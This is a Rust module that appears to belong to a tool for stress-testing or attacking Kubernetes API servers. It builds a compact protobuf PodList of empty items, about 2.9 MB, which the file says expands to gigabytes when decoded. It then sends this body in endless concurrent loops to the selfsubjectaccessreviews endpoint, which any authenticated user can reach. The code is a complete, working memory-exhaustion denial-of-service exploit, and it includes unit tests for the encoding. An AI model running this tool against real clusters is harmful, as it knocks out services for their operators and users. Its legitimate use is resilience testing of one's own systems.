//! A body of a few megabytes that becomes gigabytes once it is decoded: a protobuf list of empty items.

use bytes::Bytes;
use clap::Args;
use futures::future::join_all;
use http::Request;
use http_body_util::{BodyExt, Full};
use hyper::client::conn::http1;
use hyper_util::rt::TokioIo;
use tokio::task::JoinSet;

use super::Answers;
use crate::Error;
use crate::connect::Target;

#[derive(Args, Debug)]
pub(crate) struct Body {
    /// How large the body is, in bytes. The API server takes 3 MiB.
    #[arg(long, default_value_t = 2_900_000)]
    size: usize,
    /// Clients at a time, each with one request at a time.
    #[arg(long, default_value_t = 1)]
    clients: usize,
    /// Where the body is sent.
    #[arg(long, default_value = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews")]
    to: String,
    /// The header `Authorization`; everybody who is authenticated may review what they may do.
    #[arg(long)]
    authorization: String,
    #[arg(skip)]
    pub(super) answers: Answers,
}

impl Body {
    pub(super) async fn run(&self, target: &Target) -> Result<(), Error> {
        let body = Bytes::from(pod_list(self.size));
        let clients = (0..self.clients).map(|_| async {
            loop {
                if self.post(target, &body).await.is_none() {
                    self.answers.count("connection ended");
                    tokio::task::yield_now().await;
                }
            }
        });
        join_all(clients).await;
        Ok(())
    }

    async fn post(&self, target: &Target, body: &Bytes) -> Option<()> {
        let stream = target.connect().await.ok()?;
        let (mut sender, connection) = http1::handshake(TokioIo::new(stream)).await.ok()?;
        let mut driver = JoinSet::new();
        driver.spawn(connection);
        loop {
            sender.ready().await.ok()?;
            let request = Request::post(&self.to)
                .header("host", target.host())
                .header("authorization", &self.authorization)
                .header("content-type", "application/vnd.kubernetes.protobuf")
                .body(Full::new(body.clone()))
                .ok()?;
            let answer = sender.send_request(request).await.ok()?;
            self.answers.count(answer.status().as_str());
            answer.into_body().collect().await.ok()?;
        }
    }
}

/// A `PodList` of empty pods in Kubernetes's envelope for protobuf: four bytes of prefix, then a `runtime.Unknown` with the
/// kind in field 1 and the list in field 2. Each item is two bytes: the tag of `items`, and a length of zero.
fn pod_list(size: usize) -> Vec<u8> {
    let list = [0x12, 0x00].repeat(size / 2);
    let kind = [field(1, b"v1"), field(2, b"PodList")].concat();
    [b"k8s\0".to_vec(), field(1, &kind), field(2, &list)].concat()
}

/// A field of bytes.
fn field(number: u8, bytes: &[u8]) -> Vec<u8> {
    let mut field = vec![number << 3 | 2];
    let mut length = bytes.len();
    while length >= 0x80 {
        #[expect(clippy::cast_possible_truncation, reason = "seven bits")]
        field.push((length & 0x7f) as u8 | 0x80);
        length >>= 7;
    }
    #[expect(clippy::cast_possible_truncation, reason = "less than 0x80")]
    field.push(length as u8);
    field.extend(bytes);
    field
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_list_of_two_empty_pods_is_as_protobuf_has_it() {
        let expected = [
            b"k8s\0".as_slice(),
            &[0x0a, 13, 0x0a, 2],
            b"v1",
            &[0x12, 7],
            b"PodList",
            &[0x12, 4, 0x12, 0, 0x12, 0],
        ];
        assert_eq!(pod_list(4), expected.concat());
    }

    #[test]
    fn lengths_are_varints() {
        assert_eq!(field(1, &[0; 300])[..3], [0x0a, 0xac, 0x02]);
    }
}
